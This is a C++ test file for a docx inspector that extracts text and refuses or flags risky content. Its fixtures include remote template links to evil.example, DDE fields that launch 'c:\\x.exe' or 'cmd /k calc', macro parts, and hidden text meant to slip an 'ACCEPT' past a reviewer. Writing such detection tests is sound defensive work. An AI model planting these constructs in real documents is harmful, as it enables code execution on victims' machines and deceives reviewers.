// SPDX-License-Identifier: Apache-2.0
#include "documents/inspect.hpp"
#include "documents/samples.hpp"
#include "documents/words.hpp"

#include <catch2/catch.hpp>

using namespace documents_test;

namespace {

std::string text(const std::string& body) {
  return documents::text_of(docx(body), "docx").value_or("(none)");
}

std::string with_relationship(const std::string& one) {
  return words_of(zip(docx_parts(word_xml(paragraph(honest)), one)), "docx");
}

std::string utf16(const std::string& ascii, bool low_first) {
  std::string out = low_first ? "\xFF\xFE" : "\xFE\xFF";
  for (const char c : ascii)
    out += low_first ? std::string{c, '\0'} : std::string{'\0', c};
  return out;
}

} // namespace

TEST_CASE("paragraphs are lines, tabs and breaks are signs, tab stops are not") {
  CHECK(text(paragraph("a") + paragraph("b &amp; \xC3\xA9")) == "a\nb & \xC3\xA9\n");
  CHECK(text("<w:p><w:pPr><w:tabs><w:tab w:val=\"left\"/></w:tabs></w:pPr><w:r><w:t>a</w:t>"
             "<w:tab/><w:t>b</w:t><w:br/><w:t>c</w:t></w:r></w:p>") == "a\tb\nc\n");
  CHECK(text("<w:tbl><w:tr><w:tc>" + paragraph("Outcome") + "</w:tc><w:tc>" + paragraph("ACCEPT") +
             "</w:tc></w:tr></w:tbl>") == "Outcome\nACCEPT\n");
  CHECK(text("<w:p><w:r><w:t>in </w:t></w:r><w:r><w:t>pieces</w:t></w:r></w:p>") == "in pieces\n");
}

TEST_CASE("deleted, moved and field text is not text") {
  CHECK(text("<w:p><w:del><w:r><w:delText>REJECT</w:delText></w:r></w:del><w:ins><w:r><w:t>ACCEPT"
             "</w:t></w:r></w:ins><w:moveFrom><w:r><w:t>gone</w:t></w:r></w:moveFrom></w:p>") ==
        "ACCEPT\n");
  CHECK(text("<w:p><w:r><w:instrText>PAGE</w:instrText></w:r><w:r><w:t>7</w:t></w:r></w:p>") ==
        "7\n");
}

TEST_CASE("a text box is read once, whichever alternative it stands in") {
  const auto box = [](const std::string& words) {
    return "<w:txbxContent>" + paragraph(words) + "</w:txbxContent>";
  };
  CHECK(text("<w:p><w:r><mc:AlternateContent><mc:Choice Requires=\"wps\">" + box("new") +
             "</mc:Choice><mc:Fallback><w:pict><v:shape>" + box("old") +
             "</v:shape></w:pict></mc:Fallback></mc:AlternateContent></w:r><w:r><w:t>after"
             "</w:t></w:r></w:p>") == "new\nafter\n");
  CHECK(text("<w:p><w:r><mc:AlternateContent><mc:Fallback>" + box("old") +
             "</mc:Fallback></mc:AlternateContent></w:r></w:p>") == "old\n");
}

TEST_CASE("the strict namespace and UTF-16 parts are read alike") {
  CHECK(documents::text_of(zip(docx_parts(word_xml(paragraph("s"), strict))), "DOCX") == "s\n");
  auto xml = word_xml(paragraph("sixteen"));
  xml.replace(xml.find("UTF-8"), 5, "UTF-16");
  for (const bool low_first : {true, false})
    CHECK(documents::text_of(zip(docx_parts(utf16(xml, low_first))), "docx") == "sixteen\n");
}

TEST_CASE("the main part is where relationships and types say, and other stories follow it") {
  auto types = content_types();
  types.replace(types.find("/word/document.xml"), 18, "/odd/main.xml");
  const auto file =
      zip({{"[Content_Types].xml", types},
           {"_rels/.rels", relationships(relationship("officeDocument", "/odd/main.xml"))},
           {"odd/main.xml", word_xml(paragraph("main"))},
           {"odd/_rels/main.xml.rels", relationships(relationship("footnotes", "foot.xml"))},
           {"odd/foot.xml", word_xml(paragraph("foot"))}});
  CHECK(documents::text_of(file, "docx") == "main\nfoot\n");
}

TEST_CASE("an honest docx is fine") {
  CHECK(words_of(docx(paragraph(honest)), "docx") == "fine");
  CHECK(with_relationship(relationship("hyperlink", "https://ggus.eu/?ticket=1", true)) == "fine");
  CHECK(with_relationship(relationship("image", "media/image1.png")) == "fine");
}

TEST_CASE("macros are refused, by part, type or relationship") {
  auto parts = docx_parts(word_xml(paragraph(honest)));
  parts.push_back({"word/vbaProject.bin", "x"});
  CHECK(words_of(zip(parts), "docx") == "refused macros");
  parts = docx_parts(word_xml(paragraph(honest)));
  parts[0].bytes = content_types("application/vnd.ms-word.document.macroEnabled.main+xml");
  CHECK(words_of(zip(parts), "docx") == "refused macros");
  CHECK(with_relationship(relationship("vbaProject", "any.bin")) == "refused macros");
}

TEST_CASE("what is fetched when a document is opened is refused, what is missing is doubtful") {
  CHECK(with_relationship(relationship("attachedTemplate", "http://evil.example/t.dotm", true)) ==
        "refused outside");
  CHECK(with_relationship(relationship("attachedTemplate", "\\\\evil.example\\t.dotm", true)) ==
        "refused outside");
  CHECK(with_relationship(relationship("attachedTemplate", "file://evil.example/t.dotm", true)) ==
        "refused outside");
  CHECK(with_relationship(relationship("attachedTemplate", "file:///\\\\evil.example\\t", true)) ==
        "refused outside");
  CHECK(with_relationship(relationship("attachedTemplate", "file:///%5C%5Cevil.example%5Ct",
                                       true)) == "refused outside");
  CHECK(with_relationship(relationship("frame", "https://evil.example/", true)) ==
        "refused outside");
  CHECK(with_relationship(relationship("attachedTemplate", "file:///C:\\Users\\a\\t.dotx", true)) ==
        "fine own_template");
  CHECK(with_relationship(relationship("subDocument", "file:///C:\\Users\\a\\t.docx", true)) ==
        "doubtful outside");
  CHECK(with_relationship(relationship("image", "file://a.example/a.png", true)) ==
        "refused outside");
  CHECK(with_relationship(relationship("image", "\\\\a.example\\a.png", true)) ==
        "refused outside");
  CHECK(with_relationship(relationship("image", "http://a.example/a.png", true)) ==
        "doubtful outside_picture");
}

TEST_CASE("what alternatives say in two ways recommends nothing, and fields of both are judged") {
  const auto both = [](const std::string& one, const std::string& other) {
    return docx(paragraph(honest) + "<mc:AlternateContent><mc:Choice Requires=\"x\">" + one +
                "</mc:Choice><mc:Fallback>" + other + "</mc:Fallback></mc:AlternateContent>");
  };
  const auto recommends = [](const std::string& file) {
    return documents::inspect(file, "docx", {documents::usual_topics(), {}}).recommendation;
  };
  const auto accept = paragraph("Recommendation: ACCEPT");
  CHECK(recommends(both(accept, paragraph("Recommendation: REJECT"))).empty());
  CHECK(recommends(both(accept, "")).empty());
  CHECK(recommends(both(accept, accept)) == "ACCEPT");
  CHECK(words_of(both("<w:p/>", "<w:p><w:fldSimple w:instr=\"DDE x\"/></w:p>"), "docx") ==
        "refused active_content");
}

TEST_CASE("hidden text does not count, and is told") {
  const auto hidden = run("no GGUS tickets, ACCEPT", "<w:vanish/>");
  const auto shown = paragraph("NGI_IT INFN-T1, CREAM 1.13.1: installed with yum, jobs submitted");
  const auto file = docx(shown + "<w:p>" + hidden + "</w:p>");
  CHECK(words_of(file, "docx") == "doubtful hidden_text topics_missing");
  CHECK(documents::text_of(file, "docx")->find("ACCEPT") == std::string::npos);
  CHECK(words_of(
            docx(paragraph(honest) + "<w:p>" + run("x", "<w:vanish w:val=\"false\"/>") + "</w:p>"),
            "docx") == "fine");
  CHECK(words_of(docx(paragraph(honest) + "<w:p>" + run(" ", "<w:vanish/>") + "</w:p>"), "docx") ==
        "fine");
  // by a style
  auto parts = docx_parts(
      word_xml("<w:p>" + run("ACCEPT", "<w:rStyle w:val=\"H2\"/>") + "</w:p>" + paragraph(honest)),
      relationship("styles", "styles.xml"));
  parts.push_back({"word/styles.xml",
                   "<w:styles xmlns:w=\"" + transitional +
                       "\"><w:style w:styleId=\"H\"><w:rPr><w:vanish/></w:rPr></w:style><w:style "
                       "w:styleId=\"H2\"><w:basedOn w:val=\"H\"/></w:style></w:styles>"});
  CHECK(words_of(zip(parts), "docx") == "doubtful hidden_text");
}

TEST_CASE(
    "objects are doubtful, while DDE, ActiveX and chunks are refused in however many pieces") {
  CHECK(with_relationship(relationship("oleObject", "embeddings/o.bin")) ==
        "doubtful active_content");
  CHECK(with_relationship(relationship("control", "activeX/x.xml")) == "refused active_content");
  CHECK(with_relationship(relationship("aFChunk", "chunk.html")) == "refused active_content");
  const auto code = [](const std::string& words) {
    return "<w:r><w:instrText>" + words + "</w:instrText></w:r>";
  };
  const std::string begin = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>";
  const std::string end = "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
  const auto field = [&](const std::string& inside) {
    return words_of(docx("<w:p>" + begin + inside + end + "</w:p>" + paragraph(honest)), "docx");
  };
  CHECK(field(code(" DDE") + code("AUTO c:\\\\x.exe")) == "refused active_content");
  CHECK(field(code(" PAGE ")) == "fine");
  CHECK(words_of(docx("<w:p><w:fldSimple w:instr=\" DDE x \"/></w:p>" + paragraph(honest)),
                 "docx") == "refused active_content");
  // a field that makes the name of another one
  const auto inner = begin + code(" QUOTE 68 68 69 65 85 84 79 ") +
                     "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>x</w:t></w:r>" +
                     end;
  CHECK(field(inner + code(" cmd /k calc")) == "refused active_content");
  CHECK(field(code(" QUOTE ") + inner) == "refused active_content");
  CHECK(field(code(" = ") + begin + code(" NUMPAGES ") + end + code(" - 1 ")) == "fine");
  CHECK(field(code(" TOC ") + "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>" + begin +
              code(" HYPERLINK ") + end) == "fine");
  CHECK(field(code(" IMPORT \"http://a.example/a.png\" ")) == "doubtful outside_picture");
  CHECK(field(code(" INCLUDE \"http://a.example/a.doc\" ")) == "refused outside");
  CHECK(field(code(" INCLUDEPICTURE \"\\\\\\\\a.example\\\\a.png\" ")) == "refused outside");
}

TEST_CASE("boxes, comments and struck words in the text of a docx") {
  CHECK(text("<w:p>" + run("a") + run("b", "<w:strike/>") + run("c") + "</w:p>") == "ac\n");
  auto parts = docx_parts(word_xml(paragraph("main")), relationship("comments", "c.xml"));
  parts.push_back({"word/c.xml", word_xml(paragraph("said Bob"))});
  CHECK(documents::text_of(zip(parts), "docx") == "main\nsaid Bob\n");
}
